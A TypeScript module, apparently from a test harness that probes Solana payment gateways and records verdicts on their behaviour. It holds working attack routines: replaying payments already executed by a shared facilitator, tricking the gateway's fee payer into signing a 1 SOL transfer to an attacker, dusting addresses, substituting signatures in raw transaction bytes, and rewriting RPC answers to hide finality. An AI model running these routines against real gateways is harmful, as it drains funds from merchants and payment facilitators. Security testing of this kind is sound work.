import { ed25519 } from '@noble/curves/ed25519.js';
import { base58 } from '@scure/base';
import type { Address, Instruction } from '@solana/kit';
import type { PaymentRequirements } from '@/lib/client';
import { type Verdict } from './attack';
import { openBooks } from './books';
import { callRpc, SOLANA } from './chains/chains';
import { acceptedOn, present, presentUntilEnded, reasonOf, solanaPayment } from './chains/payments';
import {
  computeBudget,
  countersigned,
  fundedSolanaAccount,
  newSolanaAccount,
  sendSolana,
  signedTransaction,
  solanaSignIn,
  type SolanaAccount,
  transferChecked,
  transferSol,
} from './chains/solana-account';
import { chainsOf, ownOf, type Target } from './target';

export const USD = 1_000_000n;
export const FIVE = 5n * USD;

/** Prepares an attack on Solana: a funded payer and the payment requirements. */
export async function opening(target: Target) {
  const chains = chainsOf(target);
  const [accepted, payer] = await Promise.all([acceptedOn(target, SOLANA.caip2), fundedSolanaAccount(chains)]);
  const signIn = solanaSignIn(target, payer);
  const books = await openBooks(target, accepted, [{ address: payer.address, signIn }]);
  return {
    chains,
    accepted,
    payer,
    books,
    feePayer: accepted.extra.feePayer as Address,
    payTo: accepted.payTo as Address,
  };
}

let drafts = 0;

export async function signed(
  target: Target,
  accepted: PaymentRequirements,
  payer: SolanaAccount,
  transfers: readonly Instruction[],
  blockhash?: string,
): Promise<string> {
  // A different compute unit price makes each message unique.
  drafts += 1;
  const instructions = [...computeBudget(20_000, BigInt(drafts)), ...transfers];
  return signedTransaction(chainsOf(target), {
    feePayer: accepted.extra.feePayer as Address,
    instructions,
    signers: [payer],
    ...(blockhash && { blockhash }),
  });
}

/**
 * Presents payments that the gateway refuses. Then lets a shop that shares the facilitator execute these payments, and
 * presents them again.
 */
export async function executedElsewhere(
  target: Target,
  transfers: (scene: { payer: SolanaAccount; payTo: Address; feePayer: Address }) => Promise<Instruction[]>,
  times = 1,
): Promise<Verdict> {
  const { chains, accepted, payer, books, feePayer, payTo } = await opening(target);
  const { facilitator } = ownOf(target);
  const seen: string[] = [];
  for (let time = 0; time < times; time += 1) {
    const wire = await signed(target, accepted, payer, await transfers({ payer, payTo, feePayer }));
    const header = solanaPayment(accepted, wire);
    seen.push(reasonOf(await present(target, header)));
    await sendSolana(chains, countersigned(wire, facilitator?.solana.seed ?? new Uint8Array(32)));
    seen.push(reasonOf(await presentUntilEnded(target, header, 20_000)));
  }
  return books.verdict(`presented before and after another shop had it executed: ${seen.join(', ')}`, {
    isRefused: true,
  });
}

/** Asks the gateway's fee payer to sign a transaction that no payment needs. */
export async function presentDrain(
  target: Target,
): Promise<{ answer: string; wire: string; feePayer: Address; lamportsLost: number }> {
  const { chains, accepted, payer, feePayer } = await opening(target);
  const attacker = await newSolanaAccount();
  const lamports = () =>
    callRpc<{ value: number }>(chains.rpcUrl(SOLANA.slug), 'getBalance', [feePayer]).then(({ value }) => value);
  const wanted = [
    [
      await transferChecked(payer.address, accepted.payTo as Address, FIVE),
      transferSol(feePayer, attacker.address, 1_000_000_000n),
    ],
    [
      transferSol(feePayer, attacker.address, 1_000_000_000n),
      await transferChecked(payer.address, accepted.payTo as Address, FIVE),
    ],
  ];
  const before = await lamports();
  let wire = '';
  const answers: string[] = [];
  for (const transfers of wanted) {
    wire = await signed(target, accepted, payer, transfers);
    answers.push(reasonOf(await present(target, solanaPayment(accepted, wire))));
  }
  return { answer: answers.join(', '), wire, feePayer, lamportsLost: before - (await lamports()) };
}

/** Returns the address of another funded wallet, which is not the receiver. */
export async function friend(target: Target): Promise<Address> {
  return (await fundedSolanaAccount(chainsOf(target))).address;
}

/** Sends one base unit to an address `count` times. */
export async function dust(target: Target, to: Address, count: number): Promise<void> {
  const chains = chainsOf(target);
  const sender = await fundedSolanaAccount(chains);
  const url = chains.rpcUrl(SOLANA.slug);
  for (let index = 0; index < count; index += 1) {
    // A different compute unit price makes each transaction unique.
    const wire = await signedTransaction(chains, {
      feePayer: sender.address,
      signers: [sender],
      instructions: [...computeBudget(20_000, BigInt(index)), await transferChecked(sender.address, to, 1n)],
    });
    await callRpc(url, 'sendTransaction', [wire, { encoding: 'base64', skipPreflight: true }]);
  }
}

export function isSignature(text: string, message: Uint8Array, key: Uint8Array): boolean {
  try {
    return ed25519.verify(base58.decode(text), message, key);
  } catch {
    return false;
  }
}

/** Replaces a signer's signature in the wire form. Signatures come first, in the order of the static accounts. */
export function forgedSignature(wire: string, key: Uint8Array, signature: Uint8Array): string {
  const bytes = Buffer.from(wire, 'base64');
  const count = bytes[0] ?? 0;
  // The accounts follow the signatures, the version, three counts and the number of accounts.
  const accountsAt = 1 + 64 * count + 5;
  for (let index = 0; index < count; index += 1) {
    const at = accountsAt + 32 * index;
    if (bytes.subarray(at, at + 32).equals(key)) bytes.set(signature, 1 + 64 * index);
  }
  return bytes.toString('base64');
}

/** Changes a node's answers so that recent transactions are not finalized. */
export function withoutFinality({ body }: { body: string }, answer: string): string {
  const asksForFinality =
    /"commitment" *: *"finalized"/.test(body) &&
    /"method" *: *"(getTransaction|getSignaturesForAddress|getSignatureStatuses)"/.test(body);
  if (asksForFinality)
    return answer.replace(/"result" *:.*$/s, `"result":${body.includes('getTransaction') ? 'null' : '[]'}}`);
  return answer
    .replaceAll('"confirmationStatus":"finalized"', '"confirmationStatus":"confirmed"')
    .replace(/"confirmations":null/g, '"confirmations":1');
}
